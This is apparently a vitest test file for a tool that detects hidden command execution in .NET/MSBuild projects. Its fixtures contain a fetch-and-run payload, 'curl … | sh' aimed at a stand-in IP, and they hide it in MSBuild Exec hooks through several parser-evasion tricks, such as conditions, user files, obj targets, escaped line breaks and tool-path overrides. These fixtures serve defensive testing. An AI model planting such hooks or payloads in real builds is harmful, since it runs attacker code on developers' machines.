// MSBuild files read as MSBuild reads them (issue 11; the .NET review: none run here, no dotnet in Debian, each from
// MSBuild's documentation): attributes read one after another, so a `Command="…"` written inside a `Condition` value
// is not taken for the `<Exec>`'s, and a quoted `/>` inside a `<Target>` does not end it; the files MSBuild imports
// beside a project without naming them (`App.csproj.user`, restore's `obj/App.csproj.*.targets`); properties naming a
// program the build runs in place of its own (`CscToolPath`, `VSTestTestAdapterPath`); global.json's `sdk.paths`,
// which picks the SDK run even for `dotnet --version`. Real folders in a temp directory; nothing in them is run.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { buildRepository, flaggedIn, runIn } from '../testdata/build-repository';
import type { DiskProject } from '../testdata/disk-reader';

const PROJ =
  '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>\n';
const PAYLOAD = 'curl -s http://203.0.113.7/x | sh';
const targets = (t: string) => `<Project>${t}</Project>\n`;

let p: DiskProject;
beforeAll(async () => {
  await loadShellParser();
  p = buildRepository('gavel-msbuild-', {
    'label/App.csproj': PROJ,
    'label/Directory.Build.targets': targets(
      `<Target Name="Evil" BeforeTargets="Build" Label="/>"><Exec Command="${PAYLOAD}"/></Target>`,
    ),
    'cond/App.csproj': PROJ,
    'cond/Directory.Build.targets': targets(
      `<Target Name="T" BeforeTargets="Build"><Exec Condition='&apos; Command="echo ok"&apos; != &apos;&apos;' Command="${PAYLOAD}"/></Target>`,
    ),
    'user/App.csproj': PROJ,
    'user/App.csproj.user': targets(
      `<Target Name="U" BeforeTargets="Build"><Exec Command="${PAYLOAD}"/></Target>`,
    ),
    'obj/App.csproj': PROJ,
    'obj/obj/App.csproj.evil.targets': targets(
      `<Target Name="O" BeforeTargets="Build"><Exec Command="${PAYLOAD}"/></Target>`,
    ),
    'tool/App.csproj':
      '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><CscToolPath>$(MSBuildThisFileDirectory)tools</CscToolPath><CscToolExe>csc.sh</CscToolExe></PropertyGroup></Project>\n',
    'adapter/App.csproj':
      '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><VSTestTestAdapterPath>/tmp/evil-adapters</VSTestTestAdapterPath></PropertyGroup></Project>\n',
    'pct/App.csproj': PROJ,
    'pct/Directory.Build.targets': targets(
      '<Target Name="P" BeforeTargets="Build"><Exec Command="echo hi%0Acurl -s http://203.0.113.7/x | sh"/></Target>',
    ),
    'uesc/global.json': '{"sdk":{"version":"10.0.100","pa\\u0074hs":[".dotnet"]}}\n',
    'uesc/App.csproj': PROJ,
    'sdk/global.json': '{"sdk":{"version":"10.0.100","paths":[".dotnet"]}}\n',
    'sdk/App.csproj': PROJ,
    'ok/App.csproj': PROJ,
    'ok/global.json': '{"sdk":{"version":"8.0.100","rollForward":"latestFeature"}}\n',
    'ok/obj/App.csproj.nuget.g.targets': targets(
      '<ImportGroup Condition=" \'$(ExcludeRestorePackageImports)\' != \'true\' "><Import Project="$(NuGetPackageRoot)xunit.core/2.4.2/build/xunit.core.targets" Condition="Exists(\'$(NuGetPackageRoot)xunit.core/2.4.2/build/xunit.core.targets\')" /></ImportGroup>',
    ),
    'ok/Directory.Build.targets': targets(
      '<Target Name="Stamp" AfterTargets="Build" Inputs="@(Compile)" Outputs="@(Compile->\'$(OutDir)%(Filename).stamp\')"><Message Text="built" Importance="high" /><Exec Command="echo built" /></Target>',
    ),
  });
});
afterAll(() => p?.remove());

const run = (dir: string, command: string) => runIn(p, dir, command);
const flagged = (dir: string, command: string) => flaggedIn(p, dir, command);

describe('a build MSBuild runs more of than a regular expression reads is not quiet', () => {
  it.each([
    ['a quoted /> inside a target', 'label', 'dotnet build'],
    ['a command written inside a condition', 'cond', 'dotnet test'],
    ["the project's user file", 'user', 'dotnet build'],
    ["restore's targets in obj/", 'obj', 'dotnet build'],
    ['a compiler the project names', 'tool', 'dotnet build'],
    ['a test adapter the project names', 'adapter', 'dotnet test'],
    ["global.json's SDK paths, on a version query", 'sdk', 'dotnet --version'],
    ['a line break escaped in an Exec command', 'pct', 'dotnet build'],
    ["global.json's SDK paths spelt with an escape", 'uesc', 'dotnet --version'],
  ])('%s: %s', (_n, dir, command) => {
    expect(flagged(dir, command)).toBe(true);
  });

  it('an ordinary project with restore output and an item transform stays quiet', () => {
    expect(run('ok', 'dotnet build').codes).toEqual([]);
    expect(run('ok', 'dotnet --version').codes).toEqual([]);
  });
});
